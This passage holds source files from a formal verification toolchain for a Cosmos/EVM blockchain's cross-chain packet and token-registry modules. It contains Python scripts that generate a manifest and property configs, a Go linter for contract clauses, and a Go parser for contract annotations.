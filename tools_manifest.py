#!/usr/bin/env python3
"""Generates /verif/MANIFEST.json from props/*.json + manifest_src.json (kept valid at all times)."""
import json, os, sys, subprocess
V = os.path.dirname(os.path.abspath(__file__))
src = json.load(open(os.path.join(V, "manifest_src.json")))
ids = ["C%02d" % i for i in range(1, 21)]
checks, na = [], []
for pid in ids:
    ent = src["properties"].get(pid)
    if ent and ent.get("claimed"):
        checks.append({
            "property_id": pid,
            "quick_cmd": "./check %s quick" % pid,
            "thorough_cmd": "./check %s thorough" % pid,
            "evidence_file": "/verif/evidence/%s.json" % pid,
            "replay_cmd_template": "./check replay {path}",
            "engine": "govc",
            "level_claimed": {"category": ent.get("category", "proof"), "text": ent["text"], "design_ref": "DESIGN.md section 8 " + pid},
            "level_note": ent["note"],
            "technique": ent.get("technique", "contract-based deductive verification: VCs from go/ssa symbolic execution of the real functions, discharged by z3/cvc5"),
        })
    else:
        na.append({"property_id": pid, "reason": (ent or {}).get("reason", "check not built yet in this session (work in progress); see DESIGN.md section 8 for the planned contracts")})
hooks = src["hooks"]
try:
    out = subprocess.check_output(["git", "-C", "/repo", "log", "--format=%H %s"], text=True)
    hooks["source_commits"] = [l.split()[0] for l in out.splitlines() if l.split(" ", 1)[1].startswith("verif:")]
except Exception:
    pass
m = {"version": 1, "setup_cmd": "./setup.sh", "hooks": hooks,
     "engines": [{"name": "govc", "path": "/verif/cmd/govc", "serves_properties": [c["property_id"] for c in checks],
                  "kind_free_text": "verification-condition generator written for this task: symbolic execution of go/ssa of the functions under contract in /repo (contracts in //go:build verif comment files), obligations discharged by z3 4.8.12 / z3 5.1.0 / cvc5 (raced)"}],
     "checks": checks, "notes": src.get("notes", ""), "not_applicable": na}
json.dump(m, open(os.path.join(V, "MANIFEST.json"), "w"), indent=1)
print("MANIFEST.json: %d checks, %d not_applicable" % (len(checks), len(na)))
