#!/usr/bin/env python3
"""Writes /verif/props/Cxx.json (functions under contract + inventory rules per property)."""
import json, os
V = os.path.dirname(os.path.abspath(__file__))
PK = "x/xibc/core/packet/keeper."
CK = "x/xibc/core/client/keeper."
MS = "x/xibc/keeper."
TSS = "x/xibc/clients/tss-client/types."
AK = "x/aggregate/keeper."
def m(pkg, recv, names): return [pkg + "(" + recv + ")." + n for n in names]
acc = m(PK, "Keeper", ["SetPacketReceipt", "GetPacketReceipt", "HasPacketReceipt", "GetNextSequenceSend", "SetNextSequenceSend", "GetPacketCommitment", "HasPacketCommitment", "SetPacketCommitment", "deletePacketCommitment", "SetPacketAcknowledgement", "GetPacketAcknowledgement", "HasPacketAcknowledgement", "SetPacketRelayer"])
core = m(PK, "Keeper", ["RecvPacket", "WriteAcknowledgement", "AcknowledgePacket", "SendPacket", "CallEVMWithData", "CallPacket"]) + m(PK, "Hooks", ["PostTxProcessing"])
cw = m(CK, "Keeper", ["GetClientState", "SetClientState", "SetClientConsensusState", "SetChainName", "RegisterRelayers", "SetAllClientMetadata", "CreateClient", "UpgradeClient", "ToggleClient", "UpdateClient"])
rel = m(CK, "Keeper", ["GetRelayer", "AuthRelayer", "GetRelayerAddressOnOtherChain"])
ms = m(MS, "Keeper", ["RecvPacket", "Acknowledgement", "UpdateClient"])
unpack = ["x/xibc/core/client/types.UnpackHeader"]
tss = m(TSS, "ClientState", ["CheckMsg", "VerifyPacketCommitment", "VerifyPacketAcknowledgement"])
aggcalls = m(AK, "Keeper", ["CallEVMWithData", "AddERC20TraceToTransferContract", "EnableTimeBasedSupplyLimitInTransferContract", "DisableTimeBasedSupplyLimitInTransferContract"])
def fq(pkg, recv, names): return ["(" + pkg[:-1] + "." + recv + ")." + n for n in names]
LC = ["x/xibc/clients/*", "(x/xibc/clients/*", "(*x/xibc/clients/*"]
writers_allowed = fq(PK, "Keeper", ["SetPacketReceipt", "SetNextSequenceSend", "SetPacketCommitment", "deletePacketCommitment", "SetPacketAcknowledgement", "SetPacketRelayer"]) + fq(CK, "Keeper", ["SetClientState", "SetClientConsensusState", "SetChainName", "RegisterRelayers", "SetAllClientMetadata"]) + LC + ["x/xibc.ResetStates"]
inv_writers = {"name": "xibc-store-writers", "kind": "kvwriters", "scope": "x/xibc", "allowed": writers_allowed,
  "reason": "every function of x/xibc that writes or deletes a KVStore entry is under contract with [receipts-kept]/[acks-kept] (or [packet-state-kept]); light-client code (x/xibc/clients/*) writes only through the client prefix store handed to it (keys below clients/<name>/); xibc.ResetStates (upgrade handler v0.2) wipes the module by design and is excluded"}
inv_del = {"name": "xibc-store-deleters", "kind": "kvdeleters", "scope": "x/xibc", "allowed": fq(PK, "Keeper", ["deletePacketCommitment"]) + LC + ["x/xibc.ResetStates"],
  "reason": "the only Delete on the xibc store outside the light clients' prefix stores is deletePacketCommitment (commitments family) and the upgrade handler's ResetStates"}
inv_raw = {"name": "light-clients-never-open-a-raw-store", "kind": "callers", "family": "(github.com/cosmos/cosmos-sdk/types.Context).KVStore", "scope": "x/xibc/clients", "allowed": [], "expect_none": True,
  "reason": "light clients only see the prefix store passed in by the client keeper"}
inv_apply = {"name": "evm-apply-message-call-sites", "kind": "callers", "family": ".ApplyMessage", "allowed": fq(PK, "Keeper", ["CallEVMWithData"]) + fq(AK, "Keeper", ["CallEVMWithData"]),
  "reason": "the only places where teleport itself submits an EVM message are the two CallEVMWithData copies"}
inv_pkcall = {"name": "packet-CallEVMWithData-callers", "kind": "callers", "family": "(x/xibc/core/packet/keeper.Keeper).CallEVMWithData", "allowed": fq(PK, "Keeper", ["CallPacket", "CallEVM"]),
  "reason": "module-signed calls into the packet contract go through CallPacket (from = packet module address); CallEVM has no production caller"}
inv_callpacket = {"name": "CallPacket-callers", "kind": "callers", "family": "(x/xibc/core/packet/keeper.Keeper).CallPacket", "allowed": fq(PK, "Keeper", ["SendPacket"]) + fq(MS, "Keeper", ["RecvPacket", "Acknowledgement"]),
  "reason": "privileged packet-contract entry points are only driven from SendPacket and the two verified-message handlers"}
inv_aggcall = {"name": "aggregate-module-signed-calls", "kind": "callers", "family": "(x/aggregate/keeper.Keeper).CallEVMWithData", "allowed": fq(AK, "Keeper", ["AddERC20TraceToTransferContract", "EnableTimeBasedSupplyLimitInTransferContract", "DisableTimeBasedSupplyLimitInTransferContract", "CallEVM", "DeployERC20Contract", "convertERC20NativeToken"]),
  "reason": "endpoint-contract administration calls are made from the aggregate module address by three functions reached only from passed proposals"}
cfgs = {
 "C01": {"functions": acc[:3] + core + cw + ms[:1] + rel[2:], "inventory": [inv_writers, inv_del, inv_raw]},
 "C02": {"functions": m(PK, "Keeper", ["RecvPacket", "AcknowledgePacket", "GetPacketCommitment", "GetPacketReceipt"]) + cw[:1] + ms[:2] + rel[2:] + tss[1:]},
 "C03": {"functions": m(PK, "Keeper", ["CallEVMWithData", "CallPacket", "WriteAcknowledgement", "RecvPacket", "AcknowledgePacket"]) + ms[:2] + rel[2:] + cw[:1] + aggcalls[:1], "inventory": [inv_apply]},
 "C04": {"functions": m(PK, "Keeper", ["GetNextSequenceSend", "SetNextSequenceSend", "SetPacketCommitment", "SendPacket", "CallPacket", "CallEVMWithData"]) + m(PK, "Hooks", ["PostTxProcessing"]) + cw[:1]},
 "C05": {"functions": [a for a in acc if "Acknowledgement" in a or "Commitment" in a] + core + ms[:2] + cw[:1] + rel[2:], "inventory": [inv_writers, inv_del]},
 "C06": {"functions": unpack + rel + ms + tss + m(PK, "Keeper", ["CallPacket", "RecvPacket", "AcknowledgePacket"]) + cw[:1] + aggcalls, "inventory": [inv_apply, inv_pkcall, inv_callpacket, inv_aggcall]},
}
RV = ["x/rvesting/types.validatePerBlockReward", "x/rvesting/types.(*Params).validate", "x/rvesting/types.ValidateGenesis", "x/rvesting/keeper.(Keeper).InitGenesis", "x/rvesting/module.BeginBlocker"]
cfgs["C20"] = {"functions": ["x/rvesting/types.validatePerBlockReward", "x/rvesting/types.(*Params).validate", "x/rvesting/module.BeginBlocker"],
  "assumptions": ["bank.SendCoinsFromModuleToModule / GetBalance semantics (axioms/bank_rvesting.axm); both module accounts exist (app.go maccPerms); pool and fee-collector addresses differ; params stored for x/rvesting passed validatePerBlockReward (SetParamSet / param-change validation run the validator; its contract is proved)"]}
cfgs["C15"] = {"functions": RV,
  "assumptions": ["SDK: gov runs a proposal handler once at submission (dry-run) and in EndBlock without recover; SetParamSet panics unless each field validator passes"]}
cfgs["C16"] = {"functions": ["x/aggregate/keeper.(Keeper).OnRecvPacket", "x/aggregate.(IBCMiddleware).OnRecvPacket"]}
cfgs["C18"] = {"functions": ["x/xibc/core/client/keeper.(Keeper).CreateClient", "x/xibc/core/client/keeper.(Keeper).UpgradeClient", "x/xibc/core/client/keeper.(Keeper).ToggleClient", "x/xibc/core/client/keeper.(Keeper).UpdateClient", "x/xibc/core/client/keeper.(Keeper).HandleCreateClient", "x/xibc/core/client/keeper.(Keeper).HandleUpgradeClient", "x/xibc/core/client/keeper.(Keeper).HandleToggleClient", "x/xibc/core/client/types.UnpackClientState", "x/xibc/core/client/types.UnpackConsensusState"], "impls": [{"iface": "x/xibc/exported.IFACE Header.GetHeight", "impl": "x/xibc/clients/tss-client/types.(Header).GetHeight"}, {"iface": "x/xibc/exported.IFACE Header.GetHeight", "impl": "x/xibc/clients/light-clients/tendermint/types.(Header).GetHeight"}, {"iface": "x/xibc/exported.IFACE Header.GetHeight", "impl": "x/xibc/clients/light-clients/bsc/types.(Header).GetHeight"}, {"iface": "x/xibc/exported.IFACE Header.GetHeight", "impl": "x/xibc/clients/light-clients/eth/types.(Header).GetHeight"}]}
cfgs["C12"] = {"functions": ["x/aggregate/keeper.(Keeper).SetTokenPair", "x/aggregate/keeper.(Keeper).SetDenomMap", "x/aggregate/keeper.(Keeper).SetERC20Map", "x/aggregate/keeper.(Keeper).deleteDenomMap", "x/aggregate/keeper.(Keeper).deleteERC20Map", "x/aggregate/keeper.(Keeper).deleteTokenPair", "x/aggregate/keeper.(Keeper).IsDenomRegistered", "x/aggregate/keeper.(Keeper).IsERC20Registered", "x/aggregate/keeper.(Keeper).GetERC20Map", "x/aggregate/keeper.(Keeper).GetDenomMap", "x/aggregate/keeper.(Keeper).GetTokenPair", "x/aggregate/keeper.(Keeper).SetDenomsMap", "x/aggregate/keeper.(Keeper).DeleteTokenPair", "x/aggregate/keeper.(Keeper).RegisterCoin", "x/aggregate/keeper.(Keeper).AddCoin", "x/aggregate/keeper.(Keeper).RegisterERC20", "x/aggregate/keeper.(Keeper).ToggleRelay", "x/aggregate/keeper.(Keeper).UpdateTokenPairERC20"], "inventory": [{"name": "aggregate-store-writers", "kind": "kvwriters", "scope": "x/aggregate", "allowed": ["(x/aggregate/keeper.Keeper).SetTokenPair", "(x/aggregate/keeper.Keeper).SetDenomMap", "(x/aggregate/keeper.Keeper).SetERC20Map", "(x/aggregate/keeper.Keeper).deleteDenomMap", "(x/aggregate/keeper.Keeper).deleteERC20Map", "(x/aggregate/keeper.Keeper).deleteTokenPair"], "reason": "the three registry index families are only written through the six accessor functions, each under a whole-view contract"}]}
cfgs["C13"] = {"functions": ["x/xibc/core/client/keeper.(Keeper).IterateConsensusStates", "x/xibc/clients/light-clients/tendermint/types.IterateProcessedTime", "x/xibc/clients/light-clients/tendermint/types.(ConsensusState).ClientType", "x/xibc/clients/light-clients/bsc/types.(*ConsensusState).ClientType", "x/xibc/clients/light-clients/eth/types.(*ConsensusState).ClientType", "x/xibc/clients/tss-client/types.(ConsensusState).ClientType", "x/xibc/core/packet/keeper.(Keeper).iterateHashes", "x/xibc/core/packet/keeper.(Keeper).IteratePacketSequence", "x/xibc/core/client/keeper.(Keeper).IterateClients"]}
cfgs["C19"] = {"functions": ["x/xibc/core/host.PacketReceiptKey", "x/xibc/core/host.PacketCommitmentKey", "x/xibc/core/host.PacketAcknowledgementKey", "x/xibc/core/host.NextSequenceSendKey", "x/xibc/core/host.FullConsensusStateKey", "x/xibc/core/host.ConsensusStateKey", "x/xibc/core/packet/keeper.(Keeper).iterateHashes", "x/xibc/core/packet/keeper.(Keeper).IteratePacketSequence", "x/xibc/core/client/keeper.(Keeper).IterateClients", "x/xibc/core/client/keeper.(Keeper).IterateConsensusStates", "x/xibc/clients/light-clients/tendermint/types.IterateProcessedTime", "x/xibc/clients/light-clients/bsc/types.IterateConsensusStateAscending", "x/xibc/clients/light-clients/eth/types.IterateConsensusStateAscending"], "bounded": [{"name": "abi-round-trip", "pkg": "./x/xibc/core/packet/types", "file": "abi_roundtrip_test.go.txt", "run": "TestZZBoundedABIRoundTrip", "bound": "exhaustive over strings S (quick 4, thorough 9 values incl. empty, ASCII, 2/3/4-byte UTF-8, lengths 31/32/33, a value with '/'), byte strings B (quick 3, thorough 6 incl. 0x00, 0xff, lengths 31/32/33) and uint64 U (quick {0,1,2^64-1}, thorough + {2^32,2^63}): Packet over S x S x U x B x B x diagonal, Acknowledgement over U x B x S x S, TransferData, CallData; checks decode(encode(v)) == v, encode(decode(bytes)) == bytes and pairwise distinct packet commitments"}]}
for k, v in cfgs.items():
    v["id"] = k
    # preserve hand-edited extra keys
    path = os.path.join(V, "props", k + ".json")
    json.dump(v, open(path, "w"), indent=1)
print("wrote", ", ".join(sorted(cfgs)))
