package main

import (
	"fmt"
	"go/ast"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// cmdLintLocals lists, per contract clause, the identifiers that resolve to LOCAL variables of the function
// (not parameters, results, lets, quantified variables): such a clause becomes unevaluable (UNDECIDED instead of
// VIOLATION) when an edit renames or removes the local - seeded changes C09-2 and C16-3.  Loop invariants have to
// talk about loop state; ensures / callsite clauses should not.
func cmdLintLocals(args []string) {
	p, err := loadProgram(defaultPackages, nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	cx := loadContracts(p, nil)
	type hit struct{ key, kind, label, names string }
	var hits []hit
	for _, ct := range cx.all {
		if ct.Fn == nil {
			continue
		}
		locals := map[string]bool{}
		for _, b := range ct.Fn.Blocks {
			for _, ins := range b.Instrs {
				if d, ok := ins.(*ssa.DebugRef); ok {
					if id, ok := d.Expr.(*ast.Ident); ok {
						locals[id.Name] = true
					}
				}
			}
		}
		for _, prm := range ct.Fn.Params {
			delete(locals, prm.Name())
		}
		if res := ct.Fn.Signature.Results(); res != nil {
			for i := 0; i < res.Len(); i++ {
				delete(locals, res.At(i).Name())
			}
		}
		for l := range ct.Lets {
			delete(locals, l)
		}
		if ct.Fn.Pkg != nil {
			for n := range locals {
				if ct.Fn.Pkg.Pkg.Scope().Lookup(n) != nil {
					delete(locals, n) // a package-level function, variable or constant, not a local
				}
			}
		}
		scan := func(kind string, cl Clause) {
			if cl.Expr == nil {
				return
			}
			found := map[string]bool{}
			bound := map[string]bool{}
			var walk func(n ast.Node)
			walk = func(n ast.Node) {
				ast.Inspect(n, func(n ast.Node) bool {
					switch x := n.(type) {
					case *ast.SelectorExpr:
						walk(x.X) // the selected field / method name is not a variable
						return false
					case *ast.KeyValueExpr:
						if id, ok := x.Key.(*ast.Ident); ok {
							bound[id.Name] = true // quantified variable (forall k T :: ...) or a composite-literal field name
							_ = id
						}
						walk(x.Value)
						return false
					case *ast.Ident:
						if locals[x.Name] && x.Name != "err" && !strings.HasPrefix(x.Name, "result") {
							found[x.Name] = true
						}
					}
					return true
				})
			}
			walk(cl.Expr)
			var names []string
			for n := range found {
				if !bound[n] {
					names = append(names, n)
				}
			}
			if len(names) > 0 {
				sort.Strings(names)
				hits = append(hits, hit{shortPkg(ct.PkgPath) + "." + ct.Key, kind, cl.Label, strings.Join(names, ",")})
			}
		}
		for _, c := range ct.Ensures {
			scan("ensures", c)
		}
		for _, c := range ct.Requires {
			scan("requires", c)
		}
		for _, cs := range ct.CallSites {
			// names that are also parameters of (a function called) cs.Callee resolve to the argument when the local is
			// renamed or removed: not brittle
			saved := map[string]bool{}
			short := cs.Callee
			if i := strings.LastIndex(short, "."); i >= 0 {
				short = short[i+1:]
			}
			for _, f := range allFunctions(p) {
				if f.Name() == short {
					for _, prm := range f.Params {
						if locals[prm.Name()] {
							saved[prm.Name()] = true
							delete(locals, prm.Name())
						}
					}
				}
			}
			scan("callsite "+cs.Callee, cs.Clause)
			for n := range saved {
				locals[n] = true
			}
		}
		for n, cs := range ct.Invariants {
			for _, c := range cs {
				scan(fmt.Sprintf("loop %d invariant", n), c)
			}
		}
		for n, cs := range ct.Continues {
			for _, c := range cs {
				scan(fmt.Sprintf("loop %d continue", n), c)
			}
		}
	}
	sort.Slice(hits, func(i, j int) bool { return hits[i].key+hits[i].kind < hits[j].key+hits[j].kind })
	for _, h := range hits {
		fmt.Printf("%-28s %-70s [%s] locals: %s\n", h.kind, h.key, h.label, h.names)
	}
	fmt.Printf("%d clauses name locals\n", len(hits))
}
