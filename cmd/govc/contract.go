package main

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/scanner"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

const contractFile = "zz_verif_contracts.go"

type Clause struct {
	Label string
	Text  string
	Expr  ast.Expr
	// Names: the clause only gives a name (an uninterpreted spec function of the arguments) to the result of a
	// deterministic observer method; it is assumed at call sites and not an obligation of implementations.
	Names bool
}

type Contract struct {
	Key         string // e.g. "(Keeper).RecvPacket" or "IFACE ClientState.VerifyPacketCommitment"
	PkgPath     string
	Fn          *ssa.Function
	IfaceType   string // for interface contracts: qualified interface type name
	Method      string
	Params      []string // explicit parameter names for interface contracts
	Requires    []Clause
	Ensures     []Clause
	Modifies    []Clause
	Lets        map[string]ast.Expr
	LetOrder    []string
	NoPanic     bool
	DryRun      bool
	Trusted     bool
	Pure        bool
	Invariants  map[int][]Clause
	Continues   map[int][]Clause // checked at every back edge of loop N
	ForKeys     map[int]*ForKey  // loop N iterates a store: verify its body for an arbitrary key of a family
	Unroll      map[int]int
	File        *ContractFile
	Line        int
	Assumes     []string // free-text assumption notes
	CallSites   []CallSiteClause
	Inline      bool
	viaContract *Contract // lemma layer: verify the clauses against this contract instead of the body
	renameTo    []string  // verifyImpl: additional (interface) names for the parameters, positionally
}

// ForKey: "loop N forkey v1 T1, v2 T2 :: keyExpr [requires cond]". The body of loop N is executed with the
// iterator positioned on keyExpr for arbitrary values of the variables (which the loop's continue /
// invariant clauses may mention).
type ForKey struct {
	Vars     [][2]string
	Expr     ast.Expr
	Requires ast.Expr
	Text     string
}

// CallSiteClause: "callsite <callee> [label] expr" — expr is evaluated at every call of
// <callee> made by the function (directly or in an inlined callee), with the callee's
// parameter names bound to the actual arguments.
type CallSiteClause struct {
	Callee string
	Clause Clause
}

type SpecFunc struct {
	Name   string
	Params []string // type texts
	PNames []string
	Ret    string
	File   *ContractFile
}

type Pred struct {
	Name   string
	Params []string
	Body   ast.Expr
	Text   string
	File   *ContractFile
}

type ContractFile struct {
	Path    string
	PkgPath string
	Pkg     *types.Package
	Imports map[string]string // alias -> package path
	Axioms  bool
}

type Contracts struct {
	P         *Program
	byFn      map[*ssa.Function]*Contract
	iface     map[string]*Contract // "pkgpath.Iface.Method"
	extern    map[string]*Contract // call name -> assumed contract (axiom files); last one parsed
	externAll map[string][]*Contract
	specs     map[string]*SpecFunc
	preds     map[string]*Pred
	all       []*Contract
	files     []*ContractFile
	errs      []string
}

func (cx *Contracts) forFunc(fn *ssa.Function) *Contract {
	if cx == nil {
		return nil
	}
	return cx.byFn[fn]
}

func (cx *Contracts) ifaceContract(t types.Type, method string) *Contract {
	if cx == nil || t == nil {
		return nil
	}
	n, ok := t.(*types.Named)
	if !ok || n.Obj().Pkg() == nil {
		return nil
	}
	return cx.iface[n.Obj().Pkg().Path()+"."+n.Obj().Name()+"."+method]
}

var clauseRe = regexp.MustCompile(`^(requires|ensures|names|modifies|let|nopanic|trusted|pure|inline|loop|assumes|callsite)\b\s*(.*)$`)
var labelRe = regexp.MustCompile(`^\[([^\]]+)\]\s*(.*)$`)

func loadContracts(p *Program, overlay map[string][]byte) *Contracts {
	cx := &Contracts{P: p, byFn: map[*ssa.Function]*Contract{}, iface: map[string]*Contract{}, extern: map[string]*Contract{}, externAll: map[string][]*Contract{}, specs: map[string]*SpecFunc{}, preds: map[string]*Pred{}}
	var pkgs []string
	for path := range p.SSA {
		pkgs = append(pkgs, path)
	}
	sort.Strings(pkgs)
	for _, path := range pkgs {
		sp := p.SSA[path]
		rel := strings.TrimPrefix(strings.TrimPrefix(path, modPath), "/")
		file := filepath.Join(repoDir(), rel, contractFile)
		var data []byte
		if d, ok := overlay[file]; ok {
			data = d
		} else {
			d, err := os.ReadFile(file)
			if err != nil {
				continue
			}
			data = d
		}
		cf := &ContractFile{Path: file, PkgPath: path, Pkg: sp.Pkg, Imports: map[string]string{}}
		cx.files = append(cx.files, cf)
		cx.parseFile(cf, string(data))
	}
	// assumed contracts on dependencies (trusted base)
	axs, _ := filepath.Glob(filepath.Join(verifDir(), "axioms", "*.axm"))
	sort.Strings(axs)
	for _, f := range axs {
		data, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		text := string(data)
		// scope package: first "// verif:package <path>" line; skipped if that package is not loaded
		pkgPath := ""
		for _, ln := range strings.Split(text, "\n") {
			if strings.HasPrefix(strings.TrimSpace(ln), "// verif:package ") {
				pkgPath = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(ln), "// verif:package "))
				break
			}
		}
		sp := p.SSA[pkgPath]
		if sp == nil {
			continue
		}
		cf := &ContractFile{Path: f, PkgPath: pkgPath, Pkg: sp.Pkg, Imports: map[string]string{}, Axioms: true}
		cx.files = append(cx.files, cf)
		cx.parseFile(cf, text)
	}
	return cx
}

func (cx *Contracts) errorf(format string, a ...interface{}) {
	cx.errs = append(cx.errs, fmt.Sprintf(format, a...))
}

func (cx *Contracts) parseFile(cf *ContractFile, text string) {
	lines := strings.Split(text, "\n")
	var cur *Contract
	var lastClause *Clause
	var lastKind string
	flush := func() {
		if lastClause != nil && lastKind != "" {
			cx.finishClause(cur, lastKind, lastClause, cf)
		}
		lastClause, lastKind = nil, ""
	}
	for i, ln := range lines {
		t := strings.TrimSpace(ln)
		switch {
		case strings.HasPrefix(t, "// verif:import "):
			f := strings.Fields(strings.TrimPrefix(t, "// verif:import "))
			if len(f) == 2 {
				cf.Imports[f[0]] = strings.Trim(f[1], `"`)
			}
		case strings.HasPrefix(t, "// verif:spec "):
			flush()
			cx.parseSpec(cf, strings.TrimPrefix(t, "// verif:spec "))
		case strings.HasPrefix(t, "// verif:pred "):
			flush()
			cx.parsePred(cf, strings.TrimPrefix(t, "// verif:pred "))
		case strings.HasPrefix(t, "// verif:func "):
			flush()
			key := strings.TrimSpace(strings.TrimPrefix(t, "// verif:func "))
			cur = &Contract{Key: key, PkgPath: cf.PkgPath, Lets: map[string]ast.Expr{}, Invariants: map[int][]Clause{}, Continues: map[int][]Clause{}, ForKeys: map[int]*ForKey{}, Unroll: map[int]int{}, File: cf, Line: i + 1}
			cx.bindFunc(cur)
			cx.all = append(cx.all, cur)
		case strings.HasPrefix(t, "// verif:extern "):
			flush()
			spec := strings.TrimSpace(strings.TrimPrefix(t, "// verif:extern "))
			cur = &Contract{Key: "EXTERN " + spec, PkgPath: cf.PkgPath, Lets: map[string]ast.Expr{}, Invariants: map[int][]Clause{}, Continues: map[int][]Clause{}, ForKeys: map[int]*ForKey{}, Unroll: map[int]int{}, File: cf, Line: i + 1, Trusted: true}
			// name(params): params is the last parenthesised group
			j := strings.LastIndex(spec, "(")
			name := spec
			if j > 0 && strings.HasSuffix(spec, ")") {
				name = strings.TrimSpace(spec[:j])
				for _, p := range strings.Split(spec[j+1:len(spec)-1], ",") {
					if p = strings.TrimSpace(p); p != "" {
						cur.Params = append(cur.Params, p)
					}
				}
			}
			cur.Key = "EXTERN " + name
			cx.extern[name] = cur
			cx.externAll[name] = append(cx.externAll[name], cur)
			cx.all = append(cx.all, cur)
		case strings.HasPrefix(t, "// verif:iface "):
			flush()
			// "// verif:iface exported.ClientState.VerifyPacketCommitment(ctx, store, cdc, height, proof, srcChain, dstChain, sequence, commitment)"
			spec := strings.TrimSpace(strings.TrimPrefix(t, "// verif:iface "))
			cur = &Contract{Key: "IFACE " + spec, PkgPath: cf.PkgPath, Lets: map[string]ast.Expr{}, Invariants: map[int][]Clause{}, Continues: map[int][]Clause{}, ForKeys: map[int]*ForKey{}, Unroll: map[int]int{}, File: cf, Line: i + 1}
			cx.bindIface(cur, spec)
			cx.all = append(cx.all, cur)
		case strings.HasPrefix(t, "//@"):
			body := strings.TrimPrefix(t, "//@")
			tb := strings.TrimSpace(body)
			if m := clauseRe.FindStringSubmatch(tb); m != nil && cur != nil {
				flush()
				lastKind = m[1]
				lastClause = &Clause{Text: m[2]}
			} else if lastClause != nil {
				lastClause.Text += " " + tb
			} else if tb != "" {
				cx.errorf("%s:%d: stray contract line", cf.Path, i+1)
			}
		default:
			if t == "" || !strings.HasPrefix(t, "//") {
				flush()
			}
		}
	}
	flush()
}

func (cx *Contracts) finishClause(ct *Contract, kind string, cl *Clause, cf *ContractFile) {
	if ct == nil {
		return
	}
	text := strings.TrimSpace(cl.Text)
	switch kind {
	case "nopanic":
		ct.NoPanic = true
		if strings.HasPrefix(text, "dryrun") {
			// proposal handlers: a panic site whose guard depends on the proposal content only and that lies on every
			// nil-returning path is covered by the governance submission dry-run (DESIGN section 8 C15, tier ii)
			ct.DryRun = true
		}
		return
	case "trusted":
		ct.Trusted = true
		if text != "" {
			ct.Assumes = append(ct.Assumes, text)
		}
		return
	case "pure":
		ct.Pure = true
		return
	case "inline":
		// the clauses are proved for the function, but callers (and specifications) unfold its body:
		// used for key builders, whose structure the segment algebra needs at every use
		ct.Inline = true
		return
	case "assumes":
		ct.Assumes = append(ct.Assumes, text)
		return
	}
	if m := labelRe.FindStringSubmatch(text); m != nil {
		cl.Label = m[1]
		text = m[2]
	}
	if kind == "loop" {
		// loop N invariant [label] expr | loop N unroll K
		f := strings.Fields(text)
		if len(f) >= 3 {
			var n int
			fmt.Sscanf(f[0], "%d", &n)
			rest := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(strings.TrimPrefix(text, f[0])), f[1]))
			switch f[1] {
			case "unroll":
				var k int
				fmt.Sscanf(rest, "%d", &k)
				ct.Unroll[n] = k
				return
			case "forkey":
				// v1 T1, v2 T2 :: expr [requires cond]
				k := strings.Index(rest, "::")
				if k < 0 {
					cx.errorf("%s: %s: malformed forkey clause %q", cf.Path, ct.Key, rest)
					return
				}
				fk := &ForKey{Text: rest}
				for _, d := range strings.Split(rest[:k], ",") {
					f := strings.Fields(strings.TrimSpace(d))
					if len(f) == 2 {
						fk.Vars = append(fk.Vars, [2]string{f[0], f[1]})
					}
				}
				body := strings.TrimSpace(rest[k+2:])
				if r := strings.Index(body, " requires "); r >= 0 {
					rq, err := parseSpecExpr(strings.TrimSpace(body[r+len(" requires "):]))
					if err != nil {
						cx.errorf("%s: %s: forkey requires: %v", cf.Path, ct.Key, err)
						return
					}
					fk.Requires = rq
					body = strings.TrimSpace(body[:r])
				}
				ex, err := parseSpecExpr(body)
				if err != nil {
					cx.errorf("%s: %s: forkey expression %q: %v", cf.Path, ct.Key, body, err)
					return
				}
				fk.Expr = ex
				ct.ForKeys[n] = fk
				return
			case "continue":
				cl2 := Clause{Text: rest}
				if m := labelRe.FindStringSubmatch(rest); m != nil {
					cl2.Label = m[1]
					cl2.Text = m[2]
				}
				ex, err := parseSpecExpr(cl2.Text)
				if err != nil {
					cx.errorf("%s: %s: loop continue clause %q: %v", cf.Path, ct.Key, cl2.Text, err)
					return
				}
				cl2.Expr = ex
				if cl2.Label == "" {
					cl2.Label = fmt.Sprintf("cont%d", len(ct.Continues[n])+1)
				}
				ct.Continues[n] = append(ct.Continues[n], cl2)
				return
			case "invariant":
				c := Clause{Text: rest}
				if m := labelRe.FindStringSubmatch(rest); m != nil {
					c.Label = m[1]
					c.Text = m[2]
				}
				ex, err := parseSpecExpr(c.Text)
				if err != nil {
					cx.errorf("%s: %s: loop invariant %q: %v", cf.Path, ct.Key, c.Text, err)
					return
				}
				c.Expr = ex
				if c.Label == "" {
					c.Label = fmt.Sprintf("inv%d", len(ct.Invariants[n])+1)
				}
				ct.Invariants[n] = append(ct.Invariants[n], c)
				return
			}
		}
		cx.errorf("%s: %s: malformed loop clause %q", cf.Path, ct.Key, text)
		return
	}
	if kind == "callsite" {
		f := strings.Fields(text)
		if len(f) < 2 {
			cx.errorf("%s: %s: malformed callsite clause %q", cf.Path, ct.Key, text)
			return
		}
		rest := strings.TrimSpace(strings.TrimPrefix(text, f[0]))
		cc := Clause{Text: rest}
		if m := labelRe.FindStringSubmatch(rest); m != nil {
			cc.Label = m[1]
			cc.Text = m[2]
		}
		ex, err := parseSpecExpr(cc.Text)
		if err != nil {
			cx.errorf("%s: %s: callsite %q: %v", cf.Path, ct.Key, cc.Text, err)
			return
		}
		cc.Expr = ex
		if cc.Label == "" {
			cc.Label = fmt.Sprintf("cs%d", len(ct.CallSites)+1)
		}
		ct.CallSites = append(ct.CallSites, CallSiteClause{Callee: strings.ReplaceAll(f[0], "dollar_", "$"), Clause: cc})
		return
	}
	if kind == "let" {
		i := strings.Index(text, "=")
		if i < 0 {
			cx.errorf("%s: %s: malformed let %q", cf.Path, ct.Key, text)
			return
		}
		name := strings.TrimSpace(text[:i])
		ex, err := parseSpecExpr(strings.TrimSpace(text[i+1:]))
		if err != nil {
			cx.errorf("%s: %s: let %s: %v", cf.Path, ct.Key, name, err)
			return
		}
		ct.Lets[name] = ex
		ct.LetOrder = append(ct.LetOrder, name)
		return
	}
	ex, err := parseSpecExpr(text)
	if err != nil {
		cx.errorf("%s: %s: %s %q: %v", cf.Path, ct.Key, kind, text, err)
		return
	}
	cl.Text = text
	cl.Expr = ex
	switch kind {
	case "requires":
